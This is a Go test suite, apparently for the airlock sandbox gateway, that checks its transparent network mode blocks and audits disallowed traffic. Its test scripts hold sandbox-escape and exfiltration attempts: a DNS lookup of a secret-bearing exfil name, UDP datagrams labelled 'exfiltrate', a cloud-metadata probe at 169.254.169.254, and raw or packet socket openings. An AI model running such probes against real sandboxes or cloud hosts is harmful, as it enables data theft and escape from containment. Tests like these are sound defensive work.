//go:build linux

package main

// The transparent network: the sandbox's only interface leads into the
// gateway's netstack. These tests try to get anything out of it that policy
// does not allow — by DNS, UDP, ICMP, IPv6, a direct address — with real
// clients inside, and check what the audit log says.

import (
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/airlock-dev/airlock/internal/audit"
	"github.com/airlock-dev/airlock/internal/testutil"
)

// hostAddr is one of this host's own non-loopback IPv4 addresses: if the
// sandbox could reach the host's network, this is what it would reach.
func hostAddr(t *testing.T) netip.Addr {
	t.Helper()
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			return p.Addr()
		}
	}
	t.Skip("this host has no non-loopback IPv4 address")
	return netip.Addr{}
}

// witness listens on the host for TCP and UDP on one port and counts what arrives.
type witness struct {
	port     int
	mu       sync.Mutex
	got      []string
	tcp      net.Listener
	udp      net.PacketConn
	listenIP netip.Addr
}

func newWitness(t *testing.T, ip netip.Addr) *witness {
	t.Helper()
	w := &witness{listenIP: ip}
	var err error
	if w.tcp, err = net.Listen("tcp", netip.AddrPortFrom(ip, 0).String()); err != nil {
		t.Fatal(err)
	}
	w.port = w.tcp.Addr().(*net.TCPAddr).Port
	if w.udp, err = net.ListenPacket("udp", netip.AddrPortFrom(ip, uint16(w.port)).String()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.tcp.Close(); w.udp.Close() })
	go func() {
		for {
			c, err := w.tcp.Accept()
			if err != nil {
				return
			}
			w.mu.Lock()
			w.got = append(w.got, "tcp from "+c.RemoteAddr().String())
			w.mu.Unlock()
			c.Write([]byte("witness\n"))
			c.Close()
		}
	}()
	go func() {
		buf := make([]byte, 2048)
		for {
			n, from, err := w.udp.ReadFrom(buf)
			if err != nil {
				return
			}
			w.mu.Lock()
			w.got = append(w.got, fmt.Sprintf("udp %q from %s", buf[:n], from))
			w.mu.Unlock()
		}
	}()
	return w
}

func (w *witness) seen() []string {
	time.Sleep(200 * time.Millisecond) // let late packets land
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.got...)
}

// dnsUpstream is the resolver the gateway is told to use (--dns-upstream);
// it answers every A query with 127.0.0.3 and records every name asked.
type dnsUpstream struct {
	addr  string
	mu    sync.Mutex
	names []string
}

func newDNSUpstream(t *testing.T) *dnsUpstream {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.5:0")
	if err != nil {
		t.Fatal(err)
	}
	u := &dnsUpstream{addr: pc.LocalAddr().String()}
	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg)
		m.SetReply(q)
		for _, qq := range q.Question {
			u.mu.Lock()
			u.names = append(u.names, strings.TrimSuffix(qq.Name, "."))
			u.mu.Unlock()
			if qq.Qtype == dns.TypeA {
				m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: qq.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IPv4(127, 0, 0, 3)})
			}
		}
		w.WriteMsg(m)
	})}
	go srv.ActivateAndServe()
	t.Cleanup(func() { pc.Close() })
	return u
}

func (u *dnsUpstream) asked() string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return strings.Join(u.names, " ")
}

func auditRecords(t *testing.T, e *env, name string) []audit.Record {
	t.Helper()
	r := e.run("audit", "--json", name)
	if r.code != 0 {
		t.Fatalf("airlock audit: %v", r)
	}
	return testutil.ParseAudit(t, strings.NewReader(r.stdout))
}

func TestTransparentDNSAnswersOnlyAllowedNamesAndNeverForwardsOthers(t *testing.T) {
	needTransparent(t)
	e := newEnv(t)
	up := newDNSUpstream(t)
	r := e.run("run", "-q", "--name", "dns", "--network-mode", "transparent", "--allow-host", "api.test", "--allow-host", "*.pkgs.test",
		"--dns-upstream", up.addr, "--", "sh", "-c", `
		env | grep -i _proxy
		getent hosts api.test
		getent hosts mirror.pkgs.test
		getent hosts secret-0123456789.exfil.test || echo "exfil: no address"
		getent ahostsv6 api.test || echo "api.test: no IPv6 address"
		python3 -c 'import socket; print("python", socket.gethostbyname("api.test"))'
		curl -sS -o /dev/null -w "api.test %{exitcode}\n" https://api.test/ 2>/dev/null
		true`)
	if r.code != 0 {
		t.Fatal(r)
	}
	if strings.Contains(strings.ToLower(r.stdout), "_proxy=") {
		t.Errorf("proxy variables are set in transparent mode: %v", r)
	}
	for _, want := range []string{"198.18.0.1      api.test", "198.18.0.2      mirror.pkgs.test", "exfil: no address",
		"api.test: no IPv6 address", "python 198.18.0.1",
		// api.test resolves (upstream) to loopback: refused, so reset.
		"api.test 7"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("missing %q in %v", want, r)
		}
	}
	asked := up.asked()
	if strings.Contains(asked, "exfil") || strings.Contains(asked, "pkgs") {
		t.Errorf("names were forwarded upstream that should never leave: %s", asked)
	}
	if !strings.Contains(asked, "api.test") {
		t.Errorf("the gateway should resolve the allowed name it dialled with --dns-upstream; upstream saw %q", asked)
	}
	var dnsAllow, dnsDeny, loopbackRefused bool
	for _, rec := range auditRecords(t, e, "dns") {
		switch {
		case rec.Kind == "dns" && rec.Host == "api.test" && rec.Decision == "allow" && rec.IP == "198.18.0.1":
			dnsAllow = true
		case rec.Kind == "dns" && rec.Host == "secret-0123456789.exfil.test" && rec.Decision == "deny":
			dnsDeny = true
		case rec.Kind == "network" && rec.Host == "api.test" && rec.Decision == "deny" && strings.Contains(rec.Reason, "loopback"):
			loopbackRefused = true
		}
	}
	if !dnsAllow || !dnsDeny || !loopbackRefused {
		t.Errorf("audit lacks the DNS allow (%v), the DNS deny (%v) or the loopback refusal (%v)", dnsAllow, dnsDeny, loopbackRefused)
	}
}

func TestTransparentNothingElseLeaves(t *testing.T) {
	needTransparent(t)
	e := newEnv(t)
	hostIP := hostAddr(t)
	w := newWitness(t, hostIP)
	target := fmt.Sprintf("%s:%d", hostIP, w.port)
	r := e.run("run", "-q", "--name", "leak", "--network-mode", "transparent", "--allow-host", "example.com", "--", "python3", "-c", fmt.Sprintf(`
import errno, socket
def attempt(name, f):
    try:
        print(name, "ok", f())
    except OSError as e:
        print(name, "failed", errno.errorcode.get(e.errno, e.errno) if e.errno else type(e).__name__)

def tcp(host, port):
    s = socket.create_connection((host, port), timeout=3)
    return s.recv(64)

def udp(host, port, data=b"exfiltrate"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(data, (host, port))
    return s.recv(64)

attempt("tcp-host", lambda: tcp(%[1]q, %[2]d))
attempt("udp-host", lambda: udp(%[1]q, %[2]d))
attempt("udp-dns-elsewhere", lambda: udp("8.8.8.8", 53, bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")))
attempt("tcp-metadata", lambda: tcp("169.254.169.254", 80))
attempt("tcp-gateway", lambda: tcp("10.0.2.2", 80))
attempt("icmp-raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("icmp-dgram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt("ipv6", lambda: socket.create_connection(("2001:db8::1", 443), timeout=3))
attempt("tun", lambda: open("/dev/net/tun", "rb"))
`, hostIP.String(), w.port))
	if r.code != 0 {
		t.Fatal(r)
	}
	for _, want := range []string{
		"tcp-host failed ECONNREFUSED", // a private address without a rule naming it
		"udp-host failed TimeoutError", // UDP goes nowhere
		"udp-dns-elsewhere failed TimeoutError",
		"tcp-metadata failed ECONNREFUSED",
		"tcp-gateway failed ECONNREFUSED",
		"icmp-raw failed EPERM",    // no CAP_NET_RAW
		"icmp-dgram failed EACCES", // ping sockets are off in the sandbox's namespace
		"packet failed EPERM",
		"ipv6 failed ENETUNREACH",
		"tun failed ENOENT",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("missing %q in %v", want, r)
		}
	}
	if got := w.seen(); len(got) != 0 {
		t.Errorf("the host's own address %s received traffic from the sandbox: %v", target, got)
	}
	var udpNoted bool
	for _, rec := range auditRecords(t, e, "leak") {
		if rec.Kind == "network" && rec.Rule == "udp" && rec.IP == "8.8.8.8" && rec.Port == 53 {
			udpNoted = true
		}
	}
	if !udpNoted {
		t.Error("the dropped UDP datagram to 8.8.8.8:53 is not in the audit log")
	}

	// A rule naming the address (and port) lets exactly that through, as a raw tunnel.
	r = e.run("run", "-q", "--network-mode", "transparent", "--allow-host", target, "--", "python3", "-c", fmt.Sprintf(`
import socket
print(socket.create_connection((%q, %d), timeout=3).recv(64).decode().strip())
`, hostIP.String(), w.port))
	if r.code != 0 || !strings.Contains(r.stdout, "witness") {
		t.Errorf("--allow-host %s should let a direct connection through: %v", target, r)
	}
}
